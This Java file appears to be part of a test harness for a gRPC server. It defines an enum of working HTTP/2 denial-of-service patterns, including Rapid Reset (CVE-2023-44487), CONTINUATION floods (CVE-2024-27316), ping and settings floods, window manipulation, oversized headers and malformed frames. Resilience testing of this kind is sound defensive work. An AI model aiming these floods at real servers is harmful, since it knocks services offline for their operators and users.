package dev.tengen.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;

/** Ways to abuse a connection of HTTP/2. */
enum Http2Abuse {
    /** Streams that are reset as soon as they are opened (CVE-2023-44487). */
    RAPID_RESET {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            byte[] headers = RawHttp2.callHeaders(CHECK);
            for (int stream = 1; stream < 2 * MANY; stream += 2) {
                connection.send(RawHttp2.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, headers));
                connection.send(RawHttp2.frame(RawHttp2.RST_STREAM, 0, stream, RawHttp2.word(8)));
            }
        }
    },
    /** A block of headers that never ends (CVE-2024-27316). */
    CONTINUATION_FLOOD {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            connection.send(RawHttp2.frame(RawHttp2.HEADERS, 0, 1, RawHttp2.callHeaders(CHECK)));
            ByteArrayOutputStream block = new ByteArrayOutputStream();
            RawHttp2.field(block, "x-long", "y".repeat(100));
            connection.flood(RawHttp2.frame(RawHttp2.CONTINUATION, 0, 1, block.toByteArray()), MANY);
        }
    },
    /** Continuations without content, which no limit of bytes stops. */
    EMPTY_CONTINUATIONS {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            connection.send(RawHttp2.frame(RawHttp2.HEADERS, 0, 1, RawHttp2.callHeaders(CHECK)));
            connection.flood(RawHttp2.frame(RawHttp2.CONTINUATION, 0, 1), MANY);
        }
    },
    /** Settings, of which each asks for an acknowledgment. */
    SETTINGS_FLOOD {
        @Override
        void commit(RawHttp2 connection) {
            connection.flood(RawHttp2.frame(RawHttp2.SETTINGS, 0, 0), MANY);
        }
    },
    /** Pings, of which each asks for an acknowledgment that nobody reads. */
    PING_FLOOD {
        @Override
        void commit(RawHttp2 connection) {
            connection.flood(RawHttp2.frame(RawHttp2.PING, 0, 0, new byte[8]), MANY);
        }
    },
    /** Frames of data without content, on a stream that stays open. */
    EMPTY_DATA {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            connection.send(RawHttp2.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, RawHttp2.callHeaders(CHECK)));
            connection.flood(RawHttp2.frame(RawHttp2.DATA, 0, 1), MANY);
        }
    },
    /** A window of nothing, so that no answer can be sent, and increments beyond the maximum. */
    WINDOW_GAMES {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            byte[] headers = RawHttp2.callHeaders(CHECK);
            for (int stream = 1; stream < 200; stream += 2) {
                connection.send(RawHttp2.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, headers));
                connection.send(RawHttp2.frame(RawHttp2.DATA, RawHttp2.END_STREAM, stream, new byte[5]));
                connection.send(RawHttp2.frame(RawHttp2.WINDOW_UPDATE, 0, stream, RawHttp2.word(1)));
            }
            connection.send(RawHttp2.frame(RawHttp2.WINDOW_UPDATE, 0, 1, RawHttp2.word(0)));
            connection.send(RawHttp2.frame(RawHttp2.WINDOW_UPDATE, 0, 0, RawHttp2.word(Integer.MAX_VALUE)));
        }
    },
    /** Headers of 2 MB. */
    HUGE_HEADERS {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            ByteArrayOutputStream block = new ByteArrayOutputStream();
            block.writeBytes(RawHttp2.callHeaders(CHECK));
            for (int count = 0; count < 100; count++) {
                RawHttp2.field(block, "x-long-" + count, "y".repeat(100));
            }
            connection.send(RawHttp2.frame(RawHttp2.HEADERS, 0, 1, block.toByteArray()));
            for (int count = 0; count < 200; count++) {
                connection.send(RawHttp2.frame(RawHttp2.CONTINUATION, 0, 1, block.toByteArray()));
            }
        }
    },
    /** Streams far beyond the limit of a connection, which once wrote a stack trace for each to the log. */
    STREAMS_BEYOND_THE_LIMIT {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            byte[] headers = RawHttp2.callHeaders(CHECK);
            for (int stream = 1; stream < 2 * STREAM_COUNT; stream += 2) {
                connection.send(RawHttp2.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, headers));
            }
        }
    },
    /** Frames of types, flags and streams that do not exist. */
    NONSENSE {
        @Override
        void commit(RawHttp2 connection) throws IOException {
            for (int type = 0; type < 256; type++) {
                connection.send(RawHttp2.frame(type, type, 2 * type, new byte[type]));
            }
        }
    };

    /** The RPC that the streams name. */
    static final String CHECK = "/grpc.health.v1.Health/Watch";

    private static final int MANY = 20_000;
    private static final int STREAM_COUNT = 3_000;

    /** Connects to a server as the abuse needs it. */
    RawHttp2 open(int port) throws IOException {
        return RawHttp2.open(port, RawHttp2.INITIAL_WINDOW_SIZE, this == WINDOW_GAMES ? 0 : 65_535);
    }

    /** Sends the frames. The server may close the connection. */
    abstract void commit(RawHttp2 connection) throws IOException;
}
